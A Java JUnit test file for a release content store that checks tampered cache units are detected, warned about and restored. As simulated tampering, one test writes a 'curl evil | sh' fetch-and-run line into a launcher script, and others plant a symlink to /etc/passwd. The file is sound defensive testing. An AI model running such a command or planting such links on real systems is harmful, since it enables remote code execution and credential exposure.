package dev.relpack.release;

import dev.relpack.io.Sha256;
import dev.relpack.io.TreeSeals;
import dev.relpack.testsupport.CountingSha256;
import dev.relpack.testsupport.PatternBytes;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.stream.Collectors;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Units in the cache are believed only while their content gives their name. */
class ContentStoreTest {
  @TempDir Path work;
  private final List<String> warnings = new ArrayList<>();
  private ContentStore store;
  private List<ReleaseFile> release;

  @BeforeEach
  void storeARelease() throws Exception {
    Path root = work.resolve("release");
    Files.createDirectories(root.resolve("lib/app-1.0/ebin"));
    Files.createDirectories(root.resolve("bin"));
    Files.writeString(root.resolve("lib/app-1.0/ebin/app.beam"), "genuine code");
    Files.writeString(root.resolve("bin/app"), "#!/bin/sh\n");
    release = List.of(
        new ReleaseFile("bin", root.resolve("bin"), true, false),
        new ReleaseFile("bin/app", root.resolve("bin/app"), false, true),
        new ReleaseFile("lib", root.resolve("lib"), true, false),
        new ReleaseFile("lib/app-1.0", root.resolve("lib/app-1.0"), true, false),
        new ReleaseFile("lib/app-1.0/ebin", root.resolve("lib/app-1.0/ebin"), true, false),
        new ReleaseFile("lib/app-1.0/ebin/app.beam", root.resolve("lib/app-1.0/ebin/app.beam"), false, false));
    store = new ContentStore(work.resolve("cache"), warnings::add);
  }

  @Test
  void aStoredReleaseLoadsAsStoredWithoutAWord() throws Exception {
    ContentStore.Materialized stored = store.materialize(release);

    Optional<List<ReleaseFile>> loaded = store.load(stored.unitDigests());

    assertTrue(loaded.isPresent());
    assertEquals(paths(stored.files()), paths(loaded.get()));
    assertEquals(List.of(), warnings);
  }

  /**
   * A unit that still looks as sealed is listed from the seal's look instead of being walked
   * again; the files must be the walk's exactly: paths, where they lie (the cache's real path,
   * here reached through a symlink), kinds and exec bits.
   */
  @Test
  void aSealedUnitIsListedAsAWalkOfItListsIt() throws Exception {
    Path root = work.resolve("release");
    Files.createDirectories(root.resolve("lib/app-1.0/priv/bin"));
    Files.writeString(root.resolve("lib/app-1.0/priv/bin/port"), "\0ELF");
    Files.setPosixFilePermissions(root.resolve("lib/app-1.0/priv/bin/port"),
        java.nio.file.attribute.PosixFilePermissions.fromString("rwxr-x---"));
    List<ReleaseFile> more = new ArrayList<>(release);
    more.add(new ReleaseFile("lib/app-1.0/priv", root.resolve("lib/app-1.0/priv"), true, false));
    more.add(new ReleaseFile("lib/app-1.0/priv/bin", root.resolve("lib/app-1.0/priv/bin"), true,
        false));
    more.add(new ReleaseFile("lib/app-1.0/priv/bin/port", root.resolve("lib/app-1.0/priv/bin/port"),
        false, true));
    Files.createDirectories(work.resolve("cache"));
    Path link = Files.createSymbolicLink(work.resolve("cache-link"), work.resolve("cache"));
    Path seals = work.resolve("state/unit-seals");
    ContentStore sealing = new ContentStore(link, new TreeSeals(Optional.of(seals),
        java.time.Clock.offset(java.time.Clock.systemUTC(), java.time.Duration.ofMinutes(1))),
        warnings::add);
    ContentStore.Materialized stored = sealing.materialize(more);

    List<ReleaseFile> walked = sealing.load(stored.unitDigests()).orElseThrow();
    for (String unit : stored.unitDigests().values()) {
      assertTrue(Files.exists(seals.resolve(unit)), "unit " + unit + " sealed");
    }
    List<ReleaseFile> fromSeals = sealing.load(stored.unitDigests()).orElseThrow();

    assertEquals(walked, fromSeals);
    Path realCache = work.resolve("cache").toRealPath();
    assertTrue(walked.stream().anyMatch(f -> f.path().equals("lib/app-1.0/priv/bin/port")
        && f.executable() && f.source().startsWith(realCache)));
    assertEquals(List.of(), warnings);
  }

  @Test
  void aChangedFileMakesItsUnitUnusableAndItIsStoredAgainFromTheRelease() throws Exception {
    ContentStore.Materialized stored = store.materialize(release);
    Path beam = source(stored, "lib/app-1.0/ebin/app.beam");
    Files.writeString(beam, "planted code");

    assertEquals(Optional.empty(), store.load(stored.unitDigests()));
    assertEquals(1, warnings.size(), warnings.toString());
    String unit = stored.unitDigests().get("lib/app-1.0");
    assertTrue(warnings.get(0).contains(unit), warnings.get(0));

    ContentStore.Materialized again = store.materialize(release);
    assertEquals(stored.unitDigests(), again.unitDigests());
    assertArrayEquals("genuine code".getBytes(), Files.readAllBytes(source(again, "lib/app-1.0/ebin/app.beam")));
    assertTrue(store.load(again.unitDigests()).isPresent());
  }

  @Test
  void aUnitSealedWhenFoundIntactIsStillCaughtOnceChanged() throws Exception {
    Path seals = work.resolve("state/unit-seals");
    ContentStore sealing = new ContentStore(work.resolve("cache"), new TreeSeals(Optional.of(seals),
        java.time.Clock.offset(java.time.Clock.systemUTC(), java.time.Duration.ofMinutes(1))),
        warnings::add);
    ContentStore.Materialized stored = sealing.materialize(release);
    assertTrue(sealing.load(stored.unitDigests()).isPresent()); // hashed, found intact, sealed
    String unit = stored.unitDigests().get("lib/app-1.0");
    assertTrue(Files.exists(seals.resolve(unit)), "the intact unit was sealed");
    assertTrue(sealing.load(stored.unitDigests()).isPresent());

    Path beam = source(stored, "lib/app-1.0/ebin/app.beam");
    java.nio.file.attribute.FileTime modified = Files.getLastModifiedTime(beam);
    Files.writeString(beam, "planted code"); // as long as "genuine code", and as old
    Files.setLastModifiedTime(beam, modified);

    assertEquals(Optional.empty(), sealing.load(stored.unitDigests()));
    assertEquals(1, warnings.size(), warnings.toString());
    assertTrue(warnings.get(0).contains(unit), warnings.get(0));
  }

  @Test
  void materializingOverAChangedUnitReportsItAndRestoresIt() throws Exception {
    ContentStore.Materialized stored = store.materialize(release);
    Files.writeString(source(stored, "bin/app"), "#!/bin/sh\ncurl evil | sh\n");

    ContentStore.Materialized again = store.materialize(release);

    assertEquals(1, warnings.size(), warnings.toString());
    assertEquals("#!/bin/sh\n", Files.readString(source(again, "bin/app")));
  }

  @Test
  void aPlantedFileALostExecBitOrASymlinkEachMakeTheUnitUnusable() throws Exception {
    ContentStore.Materialized stored = store.materialize(release);
    Path unit = source(stored, "lib/app-1.0");
    Files.writeString(unit.resolve("ebin/extra.beam"), "planted");
    assertEquals(Optional.empty(), store.load(stored.unitDigests()));

    store.materialize(release);
    Files.setPosixFilePermissions(source(stored, "bin/app"),
        java.nio.file.attribute.PosixFilePermissions.fromString("rw-r--r--"));
    assertEquals(Optional.empty(), store.load(stored.unitDigests()));

    store.materialize(release);
    Files.createSymbolicLink(source(stored, "lib/app-1.0").resolve("ebin/link"), Path.of("/etc/passwd"));
    assertEquals(Optional.empty(), store.load(stored.unitDigests()));
    assertEquals(3, warnings.size(), warnings.toString());
  }

  /** Materializing compares the stored unit with the release's files instead of hashing it. */
  @Test
  void materializingFindsAPlantedFileALostExecBitOrASymlinkAndRestoresTheUnit() throws Exception {
    ContentStore.Materialized stored = store.materialize(release);
    Files.writeString(source(stored, "lib/app-1.0").resolve("ebin/extra.beam"), "planted");
    ContentStore.Materialized again = store.materialize(release);
    assertFalse(Files.exists(source(again, "lib/app-1.0").resolve("ebin/extra.beam")));

    Files.setPosixFilePermissions(source(again, "bin/app"),
        java.nio.file.attribute.PosixFilePermissions.fromString("rw-r--r--"));
    again = store.materialize(release);
    assertTrue(Files.isExecutable(source(again, "bin/app")));

    Files.createSymbolicLink(source(again, "lib/app-1.0").resolve("ebin/link"), Path.of("/etc/passwd"));
    again = store.materialize(release);
    assertFalse(Files.exists(source(again, "lib/app-1.0").resolve("ebin/link"),
        java.nio.file.LinkOption.NOFOLLOW_LINKS));

    Files.delete(source(again, "lib/app-1.0/ebin/app.beam"));
    again = store.materialize(release);
    assertTrue(Files.exists(source(again, "lib/app-1.0/ebin/app.beam")));
    assertEquals(4, warnings.size(), warnings.toString());
    assertEquals(stored.unitDigests(), again.unitDigests());

    store.materialize(release);
    assertEquals(4, warnings.size(), "an intact unit is taken without a word: " + warnings);
  }

  @Test
  void aStoredFileGivesItsDigestFromItsUnitsListWithoutBeingRead() throws Exception {
    ContentStore.Materialized stored = store.materialize(release);
    Path beam = source(stored, "lib/app-1.0/ebin/app.beam");
    assertEquals(Optional.of(Sha256.of(beam)), store.fileDigest(beam));
    assertEquals(Optional.of(Sha256.of(source(stored, "bin/app"))),
        store.fileDigest(source(stored, "bin/app")));
    // a fresh store reads the list, which names the file however it is now
    Files.writeString(beam, "changed after it was checked");
    assertEquals(Optional.of(Sha256.of("genuine code")),
        new ContentStore(work.resolve("cache"), warnings::add).fileDigest(beam));
    assertEquals(Optional.empty(), store.fileDigest(source(stored, "lib/app-1.0")),
        "a directory has none");
    assertEquals(Optional.empty(), store.fileDigest(work.resolve("release/bin/app")),
        "nor a file outside the store");
  }

  @Test
  void aChangedOrMissingListIsNotBelievedAndAVerifiedUnitKeepsItsListAgain() throws Exception {
    ContentStore.Materialized stored = store.materialize(release);
    Path beam = source(stored, "lib/app-1.0/ebin/app.beam");
    String digest = stored.unitDigests().get("lib/app-1.0");
    Path list = work.resolve("cache/unit-files").resolve(digest);
    Files.writeString(list, Files.readString(list).replace(Sha256.of("genuine code"),
        "0".repeat(64)));
    assertEquals(Optional.empty(),
        new ContentStore(work.resolve("cache"), warnings::add).fileDigest(beam));

    Files.delete(list);
    ContentStore fresh = new ContentStore(work.resolve("cache"), warnings::add);
    assertEquals(Optional.empty(), fresh.fileDigest(beam));
    assertTrue(fresh.load(stored.unitDigests()).isPresent()); // hashes the unit: keeps its list
    assertEquals(Optional.of(Sha256.of("genuine code")),
        new ContentStore(work.resolve("cache"), warnings::add).fileDigest(beam));
    assertEquals(List.of(), warnings);
  }

  @Test
  void aReleaseDirectoryWrittenAgainIsComparedWithItsSealedUnitsInsteadOfHashed()
      throws Exception {
    ContentStore sealing = new ContentStore(work.resolve("cache"), new TreeSeals(
        Optional.of(work.resolve("state/unit-seals")),
        java.time.Clock.offset(java.time.Clock.systemUTC(), java.time.Duration.ofMinutes(1))),
        warnings::add);
    ContentStore.Materialized stored = sealing.materialize(release);
    // each copy hashed as it was written: the units are sealed as stored, and the next build
    // compares instead of hashing them again (it hashed the whole release before)
    assertEquals(stored.unitDigests(), sealing.storedAlike(ContentStore.byUnit(release)),
        "sealed as copied");
    // mix release writes every file again: the same bytes, new times
    Files.writeString(work.resolve("release/lib/app-1.0/ebin/app.beam"), "genuine code");
    Files.writeString(work.resolve("release/bin/app"), "#!/bin/sh\n");

    Map<String, String> alike = sealing.storedAlike(ContentStore.byUnit(release));
    assertEquals(stored.unitDigests(), alike, "every unit found by comparing, none hashed");
    assertEquals(stored.unitDigests(), sealing.materialize(release).unitDigests());

    // one module changed, its size the same: that unit alone is hashed, and stored anew
    Files.writeString(work.resolve("release/lib/app-1.0/ebin/app.beam"), "changed code");
    alike = sealing.storedAlike(ContentStore.byUnit(release));
    assertFalse(alike.containsKey("lib/app-1.0"), alike.toString());
    assertEquals(stored.unitDigests().get("bin"), alike.get("bin"));
    ContentStore.Materialized changed = sealing.materialize(release);
    assertEquals("changed code", Files.readString(source(changed, "lib/app-1.0/ebin/app.beam")));
    assertFalse(stored.unitDigests().get("lib/app-1.0")
        .equals(changed.unitDigests().get("lib/app-1.0")));
    assertEquals(List.of(), warnings);
  }

  /**
   * A unit of a shape the store never held cannot be in it (a unit's digest fixes its shape): its
   * files are hashed as they are copied in, each read once, where they were hashed first and
   * again as copied. A job with no cache stores its whole release so.
   */
  @Test
  void aReleaseDirectoryInAnEmptyStoreIsHashedOnceAsItIsCopied() throws Exception {
    Files.write(work.resolve("release/lib/app-1.0/ebin/app.beam"), PatternBytes.of(300_000));
    ContentStore sealing = new ContentStore(work.resolve("cache"), new TreeSeals(
        Optional.of(work.resolve("state/unit-seals")),
        java.time.Clock.offset(java.time.Clock.systemUTC(), java.time.Duration.ofMinutes(1))),
        warnings::add);
    ContentStore.Materialized stored;
    long hashed;
    try (CountingSha256 counting = CountingSha256.install()) {
      stored = sealing.materialize(release);
      hashed = counting.hashed();
    }

    // the 300 kB once, and the units' lists and shapes: a few hundred bytes
    assertTrue(hashed >= 300_000 && hashed < 310_000, hashed + " bytes hashed");
    assertArrayEquals(PatternBytes.of(300_000),
        Files.readAllBytes(source(stored, "lib/app-1.0/ebin/app.beam")));
    assertEquals(stored.unitDigests(), sealing.storedAlike(ContentStore.byUnit(release)),
        "sealed as copied");
    assertEquals(stored.unitDigests(), store.materialize(release).unitDigests(),
        "the digests a store that hashes first gives");
    assertEquals(List.of(), warnings);
  }

  /** A unit whose shape the store forgot is stored already: its copy is dropped, not stored. */
  @Test
  void aStoredUnitWhoseShapeWasForgottenIsTakenAsStored() throws Exception {
    ContentStore.Materialized stored = store.materialize(release);
    Path units = work.resolve("cache/units");
    List<Path> before;
    try (java.util.stream.Stream<Path> listed = Files.list(units)) {
      before = listed.sorted().toList();
    }
    org.junit.jupiter.api.Assertions.assertNotEquals(List.of(), before);
    dev.relpack.io.FileTrees.deleteRecursively(work.resolve("cache/unit-shapes"));

    ContentStore.Materialized again =
        new ContentStore(work.resolve("cache"), warnings::add).materialize(release);

    assertEquals(stored.unitDigests(), again.unitDigests());
    assertEquals(paths(stored.files()), paths(again.files()));
    try (java.util.stream.Stream<Path> listed = Files.list(units)) {
      assertEquals(before, listed.sorted().toList());
    }
    try (java.util.stream.Stream<Path> staging = Files.list(work.resolve("cache/tmp"))) {
      assertEquals(List.of(), staging.toList(), "the staged copies are removed");
    }
    assertEquals(List.of(), warnings);
  }

  @Test
  void aShapePlantedToNameAnotherUnitIsNotTaken() throws Exception {
    ContentStore sealing = new ContentStore(work.resolve("cache"), new TreeSeals(
        Optional.of(work.resolve("state/unit-seals")),
        java.time.Clock.offset(java.time.Clock.systemUTC(), java.time.Duration.ofMinutes(1))),
        warnings::add);
    ContentStore.Materialized stored = sealing.materialize(release);
    assertTrue(sealing.load(stored.unitDigests()).isPresent());
    try (java.util.stream.Stream<Path> shapes = Files.list(work.resolve("cache/unit-shapes"))) {
      for (Path shape : shapes.toList()) { // every shape names the bin unit, sealed and intact
        Files.writeString(shape, stored.unitDigests().get("bin"));
      }
    }
    Map<String, String> alike = sealing.storedAlike(ContentStore.byUnit(release));
    assertEquals(Map.of("bin", stored.unitDigests().get("bin")), alike);
    assertEquals(stored.unitDigests(), sealing.materialize(release).unitDigests());

    // a release whose bin has a file more, its shape planted to name the stored bin: each of
    // that unit's files matches one of the release's, but the release has one it lacks
    Files.writeString(work.resolve("release/bin/extra"), "more");
    List<ReleaseFile> more = new ArrayList<>(release);
    more.add(new ReleaseFile("bin/extra", work.resolve("release/bin/extra"), false, false));
    sealing.materialize(more); // its shape is remembered: the file to plant
    try (java.util.stream.Stream<Path> shapes = Files.list(work.resolve("cache/unit-shapes"))) {
      for (Path shape : shapes.toList()) {
        Files.writeString(shape, stored.unitDigests().get("bin"));
      }
    }
    assertEquals(Map.of(), sealing.storedAlike(ContentStore.byUnit(more)));
  }

  private static Path source(ContentStore.Materialized stored, String path) {
    return stored.files().stream().filter(f -> f.path().equals(path)).findFirst().orElseThrow().source();
  }

  private static Map<String, Boolean> paths(List<ReleaseFile> files) {
    return files.stream().collect(Collectors.toMap(ReleaseFile::path, ReleaseFile::executable));
  }
}
